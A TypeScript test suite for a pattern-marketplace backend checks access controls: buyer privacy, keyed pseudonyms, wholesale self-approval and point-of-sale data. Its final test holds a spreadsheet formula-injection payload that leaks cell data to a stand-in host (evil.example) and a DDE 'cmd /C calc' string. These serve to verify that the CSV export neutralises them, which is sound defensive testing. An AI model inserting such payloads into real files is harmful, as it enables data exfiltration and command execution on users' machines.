// What a store owner sees of other people, through the real
// PostgREST, functions and auth with real tokens:
//   3  a designer reads no buyer's email or id from `orders` (paid or unpaid); their sales list
//      (rpc/store_sales) and the customers report show an address only when the buyer opted in,
//      and the report's "Buyer XXXXXX" pseudonym is a keyed hash (secret in private.settings):
//      neither md5(buyer_id) nor anything the caller can compute, and different for another owner;
//   4  an operator cannot approve their own wholesale application, by the RPC, the function or a
//      direct PATCH; another operator can;
//   6  a pattern renamed to a spreadsheet formula comes out of the shop's in-shop sales export
//      neutralised (the one CSV writer, shared/src/csv.ts);
//   7  a pending wholesale application cannot be PATCHed to name another member's shop;
//   13 a designer reads none of the shops' pos_sales rows (selling price, till key, receipt id),
//      only what their in-shop report shows.
import crypto from 'node:crypto';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callFunction, rpcAs } from '../../../shared/src/testing/kit.ts';
import { startTestStack, type TestStack } from '../../../backend/test/harness.ts';
import { serviceClient, signedInMember, type Member } from '../../../backend/test/members.ts';

let stack: TestStack;
const service = () => serviceClient(stack);
let designer: Member;
let otherDesigner: Member;
let quiet: Member;
let sharing: Member;
let shopOwner: Member;
let store: string;
let otherStore: string;
let pattern: string;
let otherPattern: string;
let shop: string;
let paidOrder: string;
let pendingOrder: string;
let sharingOrder: string;

const rest = (path: string, token: string, init: RequestInit = {}) =>
  fetch(`${stack.url}/rest/v1/${path}`, {
    ...init,
    headers: { apikey: stack.anonKey, authorization: `Bearer ${token}`, 'content-type': 'application/json', ...(init.headers ?? {}) },
  });
const md5Pseudonym = (id: string) => `Buyer ${crypto.createHash('md5').update(id).digest('hex').slice(0, 6).toUpperCase()}`;
const sha256Pseudonym = (s: string) => `Buyer ${crypto.createHash('sha256').update(s).digest('hex').slice(0, 6).toUpperCase()}`;

async function order(buyer: Member, status: 'paid' | 'pending', lines: Array<{ store: string; pattern: string; unit: number }>) {
  const total = lines.reduce((s, l) => s + l.unit, 0);
  const row = (
    await service()
      .from('orders')
      .insert({
        buyer_id: buyer.id,
        buyer_email: buyer.email,
        status,
        currency: 'EUR',
        subtotal_cents: total,
        total_cents: total,
        buyer_country: 'DE',
        ...(status === 'paid' ? { paid_at: '2026-10-10T10:00:00Z' } : {}),
      })
      .select('id')
      .single()
      .throwOnError()
  ).data!;
  await service()
    .from('order_items')
    .insert(
      lines.map((l) => ({
        order_id: row.id,
        pattern_id: l.pattern,
        store_id: l.store,
        unit_price_cents: l.unit,
        currency: 'EUR',
        title: 'Harbour Wrap Dress',
        kind: 'wholesale_print',
      })),
    )
    .throwOnError();
  return row.id as string;
}

beforeAll(async () => {
  stack = await startTestStack({ seed: false });
  [designer, otherDesigner, quiet, sharing, shopOwner] = await Promise.all([
    signedInMember(stack, 'designer', 'Dana Designer'),
    signedInMember(stack, 'other', 'Olli Other'),
    signedInMember(stack, 'quiet', 'Quinn Quiet'),
    signedInMember(stack, 'sharing', 'Sam Sharing'),
    signedInMember(stack, 'shop', 'Sho Shop'),
  ]);
  const tail = Date.now().toString(36);
  store = (
    await service()
      .from('stores')
      .insert({ owner_id: designer.id, slug: `dana-${tail}`, kind: 'designer', name: 'Dana Patterns', currency: 'EUR' })
      .select('id')
      .single()
      .throwOnError()
  ).data!.id;
  otherStore = (
    await service()
      .from('stores')
      .insert({ owner_id: otherDesigner.id, slug: `olli-${tail}`, kind: 'designer', name: 'Olli Patterns', currency: 'EUR' })
      .select('id')
      .single()
      .throwOnError()
  ).data!.id;
  shop = (
    await service()
      .from('stores')
      .insert({
        owner_id: shopOwner.id,
        slug: `sho-${tail}`,
        kind: 'retailer',
        name: 'Sho Fabrics',
        currency: 'GBP',
        address_line1: '1 High Street',
        city: 'York',
        postal_code: 'YO1 1AA',
      })
      .select('id')
      .single()
      .throwOnError()
  ).data!.id;
  const published = { craft: 'sewing', category: 'dresses', price_cents: 2000, currency: 'EUR', status: 'published', published_at: new Date().toISOString() };
  pattern = (
    await service()
      .from('patterns')
      .insert({ store_id: store, title: 'Harbour Wrap Dress', ...published })
      .select('id')
      .single()
      .throwOnError()
  ).data!.id;
  otherPattern = (
    await service()
      .from('patterns')
      .insert({ store_id: otherStore, title: 'Olli Shirt', ...published })
      .select('id')
      .single()
      .throwOnError()
  ).data!.id;
  await service().from('profiles').update({ newsletter_opt_in: true }).eq('id', sharing.id).throwOnError();
  // the quiet buyer's cart had both designers' patterns; one unpaid checkout; the sharing buyer opted in
  paidOrder = await order(quiet, 'paid', [
    { store, pattern, unit: 2000 },
    { store: otherStore, pattern: otherPattern, unit: 3100 },
  ]);
  pendingOrder = await order(quiet, 'pending', [{ store, pattern, unit: 2000 }]);
  sharingOrder = await order(sharing, 'paid', [{ store, pattern, unit: 2000 }]);
  await order(sharing, 'paid', [{ store: otherStore, pattern: otherPattern, unit: 3100 }]);
}, 180_000);

afterAll(async () => {
  await stack?.stop();
});

describe('item 3: store owners and their buyers', () => {
  it('a designer reads no buyer email or id from orders, paid or unpaid, directly or embedded', async () => {
    const res = await rest('orders?select=id,buyer_email,buyer_id', designer.token);
    const body = await res.json();
    expect(res.status).toBe(200);
    expect(body).toEqual([]);
    for (const id of [paidOrder, pendingOrder, sharingOrder]) {
      expect(await (await rest(`orders?select=buyer_email,buyer_id&id=eq.${id}`, designer.token)).json()).toEqual([]);
    }
    // the lines are theirs, the order behind them is not
    const embedded = await (await rest(`order_items?select=id,order:orders(buyer_email,buyer_id)&store_id=eq.${store}`, designer.token)).json();
    expect(embedded.length).toBeGreaterThan(0);
    expect(embedded.every((r: { order: unknown }) => r.order === null)).toBe(true);
    const text = JSON.stringify(embedded);
    for (const who of [quiet, sharing]) {
      expect(text).not.toContain(who.email);
      expect(text).not.toContain(who.id);
    }
    // the buyer still reads their own order, address included
    expect(await (await rest(`orders?select=buyer_email&id=eq.${paidOrder}`, quiet.token)).json()).toEqual([{ buyer_email: quiet.email }]);
  });

  it('the sales list: order number, date, country and amounts; an address only of a buyer who opted in; never an id', async () => {
    const { status, body } = await rpcAs(stack, designer.token, 'store_sales', {});
    expect(status).toBe(200);
    const rows = body as Array<Record<string, unknown>>;
    // paid orders only, only the caller's own lines (not the other designer's line of the same cart)
    expect(rows.map((r) => r.order_id).sort()).toEqual([paidOrder, sharingOrder].sort());
    expect(rows.every((r) => r.store_id === store)).toBe(true);
    const quietRow = rows.find((r) => r.order_id === paidOrder)!;
    expect(quietRow).toMatchObject({
      order_status: 'paid',
      buyer_country: 'DE',
      buyer_email: null,
      unit_price_cents: 2000,
      currency: 'EUR',
      pattern_id: pattern,
    });
    expect(quietRow.order_number).toEqual(expect.any(Number));
    expect(quietRow.customer).toMatch(/^Buyer [0-9A-F]{6}$/);
    expect(rows.find((r) => r.order_id === sharingOrder)).toMatchObject({ buyer_email: sharing.email });
    const text = JSON.stringify(rows);
    expect(text).not.toContain(quiet.email);
    for (const who of [quiet, sharing]) expect(text).not.toContain(who.id);
    expect(Object.keys(quietRow)).not.toContain('buyer_id');
    // as the payments hub asks for it (supabase-js, filtered to the hub's stores)
    const hub = await designer.db.rpc('store_sales', { p_limit: 50 }).in('store_id', [store]);
    expect(hub.error).toBeNull();
    expect(hub.data!.map((r: { order_item_id: string }) => r.order_item_id).sort()).toEqual(rows.map((r) => r.order_item_id).sort());
    expect((await designer.db.rpc('store_sales', { p_limit: 1 })).data).toHaveLength(1);
    // another owner: none of these; a buyer with no store: nothing
    const other = (await rpcAs(stack, otherDesigner.token, 'store_sales', {})).body as Array<Record<string, unknown>>;
    expect(other.every((r) => r.store_id === otherStore)).toBe(true);
    expect((await rpcAs(stack, quiet.token, 'store_sales', {})).body).toEqual([]);
    expect((await rpcAs(stack, null, 'store_sales', {})).status).toBe(401);
  });

  it('pseudonyms are keyed: not md5(buyer_id), not computable by the caller, different for another owner, stable', async () => {
    const customers = async (m: Member) =>
      (await m.db.rpc('report_customers', { p_from: '2026-10-01', p_to: '2026-10-31' }).throwOnError()).data as Array<{
        customer: string;
        email: string | null;
      }>;
    const mine = await customers(designer);
    expect(mine).toHaveLength(2);
    const quietName = mine.find((r) => r.email === null)!.customer;
    expect(quietName).toMatch(/^Buyer [0-9A-F]{6}$/);
    expect(quietName).not.toBe(md5Pseudonym(quiet.id));
    expect(quietName).not.toBe(sha256Pseudonym(quiet.id));
    expect(quietName).not.toBe(sha256Pseudonym(`${designer.id}:${quiet.id}`));
    expect((await customers(designer)).find((r) => r.email === null)!.customer).toBe(quietName);
    // the sales list names the same buyer the same way
    const sales = (await rpcAs(stack, designer.token, 'store_sales', {})).body as Array<{ order_id: string; customer: string }>;
    expect(sales.find((r) => r.order_id === paidOrder)!.customer).toBe(quietName);
    // the other designer's name for the same buyer is not the same (pseudonyms do not link stores)
    const theirs = await customers(otherDesigner);
    const theirQuiet = theirs.find((r) => r.email === null)!.customer;
    expect(theirQuiet).toMatch(/^Buyer [0-9A-F]{6}$/);
    expect(theirQuiet).not.toBe(quietName);
    // the key is nobody's to read: not through REST (schema not exposed), not as the service role
    for (const token of [designer.token, stack.serviceRoleKey]) {
      const res = await rest('settings?select=*', token, { headers: { 'accept-profile': 'private' } });
      expect(res.status).toBeGreaterThanOrEqual(400);
    }
    for (const fn of ['buyer_pseudonym', 'pseudonym_key']) {
      expect((await rpcAs(stack, designer.token, fn, { p_owner: designer.id, p_buyer: quiet.id })).status).toBeGreaterThanOrEqual(400);
    }
  });

  it('refunds and payouts keep working without the orders: request_refund as the store, transfers show the order number', async () => {
    const line = (await service().from('order_items').select('id, order_number').eq('order_id', paidOrder).eq('store_id', store).single().throwOnError()).data!;
    // no provider payment: the refund is refused for that reason, after the store's right was checked
    const mine = await rpcAs(stack, designer.token, 'request_refund', { order_id: paidOrder, order_item_id: line.id });
    expect(mine.status).toBe(200);
    expect(mine.body).toMatchObject({ order_id: paidOrder, item_ids: [line.id], amount_cents: 2000 });
    await service()
      .rpc('cancel_refund_request', { p_item_ids: [line.id] })
      .throwOnError();
    const theirs = await rpcAs(stack, otherDesigner.token, 'request_refund', { order_id: paidOrder, order_item_id: line.id });
    expect(theirs.status).toBe(403);
    await service()
      .from('payout_transfers')
      .insert({
        order_item_id: line.id,
        order_id: paidOrder,
        store_id: store,
        recipient_id: designer.id,
        amount_cents: 1700,
        currency: 'EUR',
        kind: 'designer_share',
      })
      .throwOnError();
    const transfers = await (await rest('payout_transfers?select=amount_cents,order_item:order_items(title,order_number)', designer.token)).json();
    expect(transfers).toEqual([{ amount_cents: 1700, order_item: { title: 'Harbour Wrap Dress', order_number: line.order_number } }]);
  });
});

describe('items 4 and 7: wholesale applications', () => {
  const application = {
    business_name: 'Stoffladen Mitte',
    tax_id: 'DE 298 765 432',
    address_line1: 'Torstraße 1',
    city: 'Berlin',
    postal_code: '10119',
    country: 'DE',
  };

  it('an operator cannot approve their own application, by the RPC, the function or a PATCH; another operator can', async () => {
    const [op, otherOp] = await Promise.all([signedInMember(stack, 'operator', 'Opal Operator'), signedInMember(stack, 'operator2', 'Otto Operator')]);
    await service()
      .from('user_roles')
      .insert([
        { user_id: op.id, role: 'operator' },
        { user_id: otherOp.id, role: 'operator' },
      ])
      .throwOnError();
    const applied = (await op.db.from('wholesale_accounts').insert(application).select('id').single().throwOnError()).data!;

    const rpc = await rpcAs(stack, op.token, 'review_wholesale_application', { p_application: applied.id, p_decision: 'approve' });
    expect(rpc.status).toBe(403);
    expect(rpc.body).toMatchObject({ code: '42501', message: 'You cannot review your own application', hint: 'Another operator decides it.' });
    const fn = await callFunction(stack, 'wholesale-review', op.token, { application_id: applied.id, decision: 'approve' });
    expect(fn.status).toBe(403);
    expect(JSON.stringify(fn.body)).toContain('You cannot review your own application');
    const patch = await rest(`wholesale_accounts?id=eq.${applied.id}`, op.token, {
      method: 'PATCH',
      body: JSON.stringify({ status: 'approved' }),
      headers: { prefer: 'return=representation' },
    });
    expect(patch.status).toBe(403);
    expect(await patch.json()).toMatchObject({ code: '42501', message: 'You cannot review your own application' });
    const reject = await rest(`wholesale_accounts?id=eq.${applied.id}`, op.token, {
      method: 'PATCH',
      body: JSON.stringify({ status: 'rejected', reason: 'just because' }),
    });
    expect(reject.status).toBe(403);
    const still = (await service().from('wholesale_accounts').select('status').eq('id', applied.id).single().throwOnError()).data!;
    expect(still.status).toBe('pending');
    expect((await service().from('user_roles').select('role').eq('user_id', op.id).eq('role', 'wholesale')).data).toEqual([]);

    const decided = await rpcAs(stack, otherOp.token, 'review_wholesale_application', { p_application: applied.id, p_decision: 'approve' });
    expect(decided.status).toBe(200);
    expect(decided.body).toMatchObject({ status: 'approved', reviewer_id: otherOp.id });
  });

  it("a pending application cannot be PATCHed to name another member's shop; the applicant's own shop is fine", async () => {
    const applicant = await signedInMember(stack, 'applicant', 'Ada Applicant');
    const own = (
      await service()
        .from('stores')
        .insert({
          owner_id: applicant.id,
          slug: `ada-${Date.now().toString(36)}`,
          kind: 'retailer',
          name: 'Ada Fabrics',
          currency: 'EUR',
          address_line1: '3 Side Street',
          city: 'Berlin',
          postal_code: '10115',
        })
        .select('id')
        .single()
        .throwOnError()
    ).data!.id;
    const applied = (await applicant.db.from('wholesale_accounts').insert(application).select('id').single().throwOnError()).data!;
    const other = await rest(`wholesale_accounts?id=eq.${applied.id}`, applicant.token, { method: 'PATCH', body: JSON.stringify({ store_id: shop }) });
    expect(other.status).toBe(403);
    expect(await other.json()).toMatchObject({ code: '42501', message: "The shop on a wholesale application must be one of the applicant's own stores" });
    expect((await service().from('wholesale_accounts').select('store_id').eq('id', applied.id).single().throwOnError()).data!.store_id).toBeNull();
    const mine = await rest(`wholesale_accounts?id=eq.${applied.id}`, applicant.token, { method: 'PATCH', body: JSON.stringify({ store_id: own }) });
    expect(mine.status).toBe(204);
    expect((await service().from('wholesale_accounts').select('store_id').eq('id', applied.id).single().throwOnError()).data!.store_id).toBe(own);
  });
});

describe("items 6 and 13: the in-shop sales of a designer's pattern", () => {
  const formula = '=HYPERLINK("https://evil.example/?leak="&B2,"x")';

  it("a designer reads none of the shop's pos_sales rows; their report shows copies and royalties, not the shop's prices", async () => {
    const key = (
      await service()
        .from('pos_keys')
        .insert({ store_id: shop, name: 'Till 1', prefix: 'shpos_abcdef', key_hash: 'f'.repeat(64) })
        .select('id')
        .single()
        .throwOnError()
    ).data!.id;
    await service()
      .from('pos_sales')
      .insert([
        {
          store_id: shop,
          pos_key_id: key,
          pattern_id: pattern,
          quantity: 3,
          unit_price_cents: 1799,
          royalty_cents: 600,
          royalty_fee_cents: 60,
          royalty_currency: 'EUR',
          currency: 'GBP',
          source: 'api',
          external_id: 'receipt-4711-1',
          sold_at: '2026-10-05T12:00:00Z',
        },
      ])
      .throwOnError();
    const direct = await (await rest(`pos_sales?select=unit_price_cents,pos_key_id,external_id&pattern_id=eq.${pattern}`, designer.token)).json();
    expect(direct).toEqual([]);
    const all = await (await rest('pos_sales?select=*', designer.token)).json();
    expect(JSON.stringify(all)).not.toContain('receipt-4711-1');
    // the shop still reads its own rows
    expect(await (await rest(`pos_sales?select=unit_price_cents,external_id&store_id=eq.${shop}`, shopOwner.token)).json()).toEqual([
      { unit_price_cents: 1799, external_id: 'receipt-4711-1' },
    ]);
    // the designer's report: copies, royalties, the shop's name; no takings
    const report = (await designer.db.rpc('report_in_shop_sales', { p_from: '2026-10-01', p_to: '2026-10-31' }).throwOnError()).data!;
    expect(report).toEqual([
      {
        day: '2026-10-05',
        side: 'designer',
        pattern_id: pattern,
        title: 'Harbour Wrap Dress',
        designer: 'Dana Patterns',
        shop: 'Sho Fabrics',
        currency: 'EUR',
        copies: 3,
        royalty_cents: 600,
        platform_fee_cents: 60,
        designer_share_cents: 540,
        takings_currency: null,
        takings_cents: null,
      },
    ]);
    expect((await otherDesigner.db.rpc('report_in_shop_sales', { p_from: '2026-10-01', p_to: '2026-10-31' }).throwOnError()).data).toEqual([]);
    // the settlement statement (what is owed) stays for both sides
    expect((await designer.db.rpc('pos_settlement', { p_from: '2026-10-01', p_to: '2026-10-31' }).throwOnError()).data).toEqual([
      expect.objectContaining({ copies: 3, royalty_cents: 600 }),
    ]);
  });

  it("a pattern renamed to a formula comes out of the shop's export neutralised, and so does a store name", async () => {
    const renamed = await rest(`patterns?id=eq.${pattern}`, designer.token, { method: 'PATCH', body: JSON.stringify({ title: formula }) });
    expect(renamed.status).toBe(204);
    await service().from('stores').update({ name: "@SUM(1+1)*cmd|' /C calc'!A0" }).eq('id', store).throwOnError();
    const res = await fetch(`${stack.url}/functions/v1/report-export?report=in-shop-sales&from=2026-10-01&to=2026-10-31`, {
      headers: { apikey: stack.anonKey, authorization: `Bearer ${shopOwner.token}` },
    });
    expect(res.status).toBe(200);
    const text = await res.text();
    const parsed = Papa.parse<Record<string, string>>(text.trim(), { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(1);
    expect(parsed.data[0]).toMatchObject({
      side: 'shop',
      title: `'${formula}`,
      designer: "'@SUM(1+1)*cmd|' /C calc'!A0",
      shop: 'Sho Fabrics',
      takings_cents: '5397',
    });
    // no cell of the file starts a formula
    for (const row of parsed.data) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
